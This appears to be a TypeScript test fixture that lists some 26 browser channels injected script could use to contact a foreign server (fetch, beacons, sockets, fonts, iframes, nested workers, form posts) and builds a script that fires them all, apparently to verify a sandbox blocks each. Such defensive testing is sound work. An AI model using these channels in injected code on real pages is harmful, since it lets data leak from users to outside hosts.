/**
 * Every way by which injected code might try to reach a server, as scripts to be run in a page. Each asks for its own
 * path, so that what arrives can be told apart. They are given `to(path)`, an address of the foreign server.
 */
const leaks: Readonly<Record<string, string>> = {
  fetch: `fetch(to('/fetch'))`,
  'fetch without cors': `fetch(to('/fetch-no-cors'), { mode: 'no-cors', method: 'POST', body: 'names' })`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', to('/xhr')); x.send()`,
  beacon: `navigator.sendBeacon(to('/beacon'), 'names')`,
  WebSocket: `new WebSocket(to('/socket').replace('http', 'ws'))`,
  EventSource: `new EventSource(to('/events'))`,
  image: `new Image().src = to('/image.png')`,
  'image by style': `document.body.style.background = 'url(' + to('/background.png') + ')'`,
  font: `const f = new FontFace('leak', 'url(' + to('/font.woff2') + ')'); document.fonts.add(f); f.load()`,
  frame: `put('iframe', { src: to('/frame') })`,
  script: `put('script', { src: to('/script.js') })`,
  module: `import(to('/module.js'))`,
  'style sheet': `put('link', { rel: 'stylesheet', href: to('/style') })`,
  'imported style': `put('style', {}).append('@import "' + to('/imported-style') + '"')`,
  object: `put('object', { data: to('/object') })`,
  embed: `put('embed', { src: to('/embed') })`,
  video: `put('video', { src: to('/video'), preload: 'auto' })`,
  'manifest-like prefetch': `put('link', { rel: 'prefetch', href: to('/prefetch') })`,
  preload: `put('link', { rel: 'preload', as: 'fetch', href: to('/preload') })`,
  'form in a frame': `put('iframe', { name: 'sink' }); put('form', { action: to('/form'), target: 'sink' }).submit()`,
  'worker from data': `new Worker('data:text/javascript,fetch(' + JSON.stringify(to('/data-worker')) + ')')`,
  'fetch in a blob worker': `work('fetch(' + JSON.stringify(to('/worker-fetch')) + ')')`,
  'XMLHttpRequest in a blob worker': `work('const x = new XMLHttpRequest(); x.open("GET", ' + JSON.stringify(to('/worker-xhr')) + '); x.send()')`,
  'WebSocket in a blob worker': `work('new WebSocket(' + JSON.stringify(to('/worker-socket').replace('http', 'ws')) + ')')`,
  'importScripts in a blob worker': `work('importScripts(' + JSON.stringify(to('/worker-import.js')) + ')')`,
  'fetch in a worker of a worker': `work('new Worker(URL.createObjectURL(new Blob([' + JSON.stringify('fetch(' + JSON.stringify(to('/nested-worker')) + ')') + '])))')`,
};

/** The path that each of them asks for. */
export const leakPaths: readonly string[] = Object.values(leaks).flatMap(
  (leak) => /to\('([^']+)'\)/.exec(leak)?.[1] ?? [],
);

/** A script that tries them all, whatever becomes of each. */
export const tryAll = (origin: string): string => `
  const to = (path) => ${JSON.stringify(origin)} + path;
  const put = (tag, attributes) => {
    const element = Object.assign(document.createElement(tag), attributes);
    document.body.append(element);
    return element;
  };
  const work = (code) => new Worker(URL.createObjectURL(new Blob([code])));
  const attempts = [${Object.values(leaks)
    .map((leak) => `async () => { ${leak} }`)
    .join(',\n')}];
  Promise.all(attempts.map((attempt) => attempt().catch(() => undefined)))
    .then(() => new Promise((done) => setTimeout(done, 1500)));
`;
